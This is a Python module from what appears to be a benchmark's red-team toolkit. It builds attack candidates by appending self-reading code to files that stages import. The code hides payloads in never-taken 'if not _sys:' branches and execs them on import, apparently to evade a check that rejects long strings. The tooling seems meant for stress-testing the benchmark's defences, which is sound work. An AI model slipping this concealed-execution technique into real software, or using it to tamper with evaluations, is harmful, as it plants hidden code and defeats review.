"""Build a candidate from a payload: code that runs once in every stage, hidden in files that stages import."""

from collections.abc import Callable, Mapping
from importlib import resources

from fmlbench.redteam.attack import AttackCandidate, AttackContext

Constant = str | int | float

# Long strings are rejected, so the payload is code in a branch that never runs. The attack reads it from its file.
_TAIL = """

import sys as _sys

if "prelude" not in _sys.modules:
    import types as _types

    _prelude = _sys.modules["prelude"] = _types.ModuleType("prelude")
    _prelude.__dict__.update(NAME={name!r}, TARGET={target!r}, VICTIM=globals())
    with open(__file__, encoding="utf-8") as _file:
        _parts = _file.read().split("if not _sys:\\n")[1:]
    _parts = ["\\n".join(_line[4:] for _line in _part.split("\\n")) for _part in _parts]
    exec(compile(_parts[0], "prelude.py", "exec"), _prelude.__dict__)
    exec(compile(_parts[1], {file!r}, "exec"), {constants!r})
if not _sys:
{prelude}
if not _sys:
{payload}
"""


def payload(file: str, **constants: Constant) -> Callable[[AttackContext], AttackCandidate]:
    """The baseline with a payload; constants are defined before it runs."""
    return lambda context: AttackCandidate(_loaded(context, context.files, file, constants), idea=file)


def reference_with_payload(file: str, **constants: Constant) -> Callable[[AttackContext], AttackCandidate]:
    """The expert reference with a payload."""
    return lambda context: AttackCandidate(
        _loaded(context, {**context.files, **context.reference}, file, constants), idea=file
    )


def read_payload(file: str) -> str:
    """The source of a payload; it only runs in a sandbox."""
    return (resources.files("fmlbench.redteam") / "payloads" / f"{file}.py").read_text("utf-8")


def _loaded(
    context: AttackContext, files: Mapping[str, str], file: str, constants: Mapping[str, Constant]
) -> Mapping[str, str]:
    tail = _TAIL.format(
        name=file,
        target=context.target.model_dump(),
        prelude=_indented(read_payload("prelude")),
        payload=_indented(read_payload(file)),
        file=f"{file}.py",
        constants={"__name__": file, **constants},
    )
    return {path: text + tail if path in context.entries else text for path, text in files.items()}


def _indented(code: str) -> str:
    return "\n".join(f"    {line}" for line in code.rstrip("\n").split("\n"))
